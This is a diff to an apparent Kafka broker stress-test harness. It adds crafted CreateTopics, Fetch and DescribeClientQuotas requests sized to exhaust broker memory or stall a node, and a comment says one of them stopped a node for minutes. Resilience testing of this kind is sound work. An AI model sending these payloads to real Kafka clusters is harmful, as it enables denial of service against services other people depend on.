@@ -72,6 +72,17 @@ def _create_topics(count: int) -> bytes:
     return messages.encode_request(19, 5, request(topics=topics, timeout_ms=30_000, validate_only=True))
 
 
+def topics_with_configs() -> bytes:
+    """A CreateTopics whose decision takes long and whose objects are many: they are held until it is made."""
+    request = messages.request(19)
+    configs = [request.CreatableTopicConfig(name="retention.ms", value=str(i)) for i in range(40)]
+    topics = [
+        request.CreatableTopic(name=f"n.{i}", num_partitions=1, replication_factor=-1, assignments=[], configs=configs)
+        for i in range(2_300)
+    ]
+    return messages.encode_request(19, 5, request(topics=topics, timeout_ms=30_000, validate_only=True))
+
+
 def _alter_group_configs(count: int) -> bytes:
     request = messages.request(44)
     config = request.AlterableConfig(name="consumer.session.timeout.ms", config_operation=0, value="50000")
@@ -99,6 +110,22 @@ ATTACKS = (
             struct.pack(">iiiib", -1, 0, 0, 50 << 20, 0)
             + _one_topic(9_999, lambda i: struct.pack(">iqi", 0, 0, 1 << 20))
         ),
+    ),
+    Attack(
+        "Fetch of more partitions than a session may have",
+        1,
+        4,
+        lambda: (
+            struct.pack(">iiiib", -1, 60_000, 1, 50 << 20, 0)
+            + _one_topic(49_990, lambda i: struct.pack(">iqi", i, 0, 1 << 20))
+        ),
+    ),
+    # 830 KB that stopped a node for minutes.
+    Attack(
+        "DescribeClientQuotas of unknown types",
+        48,
+        0,
+        lambda: _int(79_000) + b"".join(_text(b"%d" % i) + b"\2\xff\xff" for i in range(79_000)) + b"\0",
     ),
     Attack("OffsetFetch", 9, 1, lambda: _text(b"g") + _one_topic(300_000, _int)),
     Attack("OffsetCommit", 8, 2, lambda: _offset_commit(60_000)),
